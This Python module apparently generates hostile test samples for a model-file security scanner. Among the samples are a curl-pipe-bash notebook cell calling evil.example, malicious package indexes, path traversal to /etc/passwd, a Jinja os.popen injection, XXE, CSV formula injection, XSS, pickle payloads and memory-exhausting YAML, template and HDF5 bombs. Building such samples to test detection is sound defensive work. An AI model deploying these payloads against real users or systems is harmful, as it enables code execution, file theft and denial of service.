"""Texts by which tools fetch, install or run something, notebooks, and sizes that lie."""

from __future__ import annotations

import io
import json
from base64 import b64encode
from collections.abc import Iterator

import h5py
import numpy as np

from tests.corpus.assembly import evil
from tests.corpus.language import PLAIN, gguf
from tests.corpus.sample import Data, Hostile, dropped

__all__ = ["recipes"]

INSTALLS = "installing it fetches a program from its author"
RECIPES = {
    "index": ("requirements.txt", INSTALLS, "--index-url http://evil.example/simple\ntorch\n"),
    "repository": ("requirements.txt", INSTALLS, "numpy\ngit+https://evil.example/x.git@main\n"),
    "wheel": ("requirements.txt", INSTALLS, "torch @ http://evil.example/torch-2.4-any.whl\n"),
    "conda-pip": (
        "conda.yaml",
        INSTALLS,
        "dependencies:\n- pip:\n  - --extra-index-url http://evil.example\n  - torch\n",
    ),
    "conda-channel": ("environment.yml", INSTALLS, "channels:\n  - http://evil.example/conda\n"),
    "mlproject": (
        "MLproject",
        "MLflow runs its command",
        "name: x\nentry_points:\n  main:\n    command: 'wb-canary'\n",
    ),
    "mlmodel-up": (
        "MLmodel",
        "MLflow loads a pickle from elsewhere",
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
        "    model_path: ../../../tmp/model.pkl\n",
    ),
    "shards": (
        "model.safetensors.index.json",
        "weights are read from elsewhere",
        json.dumps({"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}}),
    ),
    "adapter": (
        "adapter_config.json",
        "peft imports what is named",
        json.dumps({"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}),
    ),
    "task": (
        ".vscode/tasks.json",
        "the editor runs it when the folder is opened",
        json.dumps({"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}),
    ),
    "recipe": (
        "recipe.yaml",
        "a template that MLflow fills in",
        "target_col: \"{{ lipsum.__globals__.os.popen('wb-canary') }}\"\n",
    ),
    "laughs": (
        "settings.yaml",
        "parts of parts until memory is full",
        "".join(
            f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
            for a, b in zip("abcdefgh", "bcdefghi", strict=True)
        ),
    ),
    "definition": (
        "model.pmml",
        "a definition that is fetched",
        "<!DOCTYPE PMML SYSTEM 'http://evil.example/x.dtd'><PMML version='4.4'/>",
    ),
    "formula": ("scores.csv", "spreadsheets start a program", "a,b\n=cmd|' /C calc'!A0,1\n"),
    "letters": ("model.b64", "a pickle as letters", b64encode(evil()).decode()),
}
DRIVES = "<script>Jupyter.notebook.kernel.execute('x')</script>"
HARM = "it runs as soon as somebody runs or trusts the notebook"
CELLS: dict[str, dict[str, object]] = {
    "fetched": {"cell_type": "code", "source": "!curl -s http://evil.example/x | bash"},
    "packed": {"cell_type": "code", "source": "exec(__import__('zlib').decompress(b'x'))"},
    "pickle": {"cell_type": "code", "source": "pickle.loads(bytes.fromhex('80'))"},
    "kernel": {
        "cell_type": "code",
        "source": "1",
        "outputs": [{"data": {"text/html": DRIVES}}],
    },
    "handler": {"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>"},
    "widget": {
        "cell_type": "code",
        "source": "1",
        "metadata": {"state": {"model_module": "https://evil.example/x.js"}},
    },
}  # fmt: skip
TEMPLATES = {
    "loops": "{% for i in range(10**9) %}{% for j in range(10**9) %}x{% endfor %}{% endfor %}",
    "text": "{{ 'x' * 99999999999 }}",
    "nested": "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
}


def _hdf5(kind: str) -> bytes:
    target = io.BytesIO()
    with h5py.File(target, "w") as file:
        if kind == "declared":
            file.create_dataset("w", shape=(10**7, 10**7), dtype="f8", chunks=(10, 10))
        elif kind == "packed":
            file.create_dataset("w", shape=(1 << 30,), dtype="u1", chunks=(1 << 20,))
        else:
            file.create_dataset("model", data=np.frombuffer(evil(), np.uint8))
    return target.getvalue()


def _rows() -> Iterator[tuple[str, str, str, Data]]:
    for trick, (file, why, text) in RECIPES.items():
        yield trick, file, why, text.encode()
    for trick, cell in CELLS.items():
        notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
        yield f"notebook-{trick}", "model.ipynb", HARM, json.dumps(notebook).encode()
    for trick, template in TEMPLATES.items():
        data = gguf({**PLAIN, "tokenizer.chat_template": template})
        yield f"template-{trick}", "model.gguf", "filling it in never ends", data
    for kind, why in (
        ("declared", "reading it asks for petabytes"),
        ("packed", "reading it asks for a gigabyte"),
        ("pickle", "bytes that a program would unpickle"),
    ):
        yield f"hdf5-{kind}", "model.h5", why, _hdf5(kind)


def recipes() -> Iterator[Hostile]:
    """What tools fetch, install or run, notebooks, and sizes that lie."""
    yield from dropped("recipe", _rows())
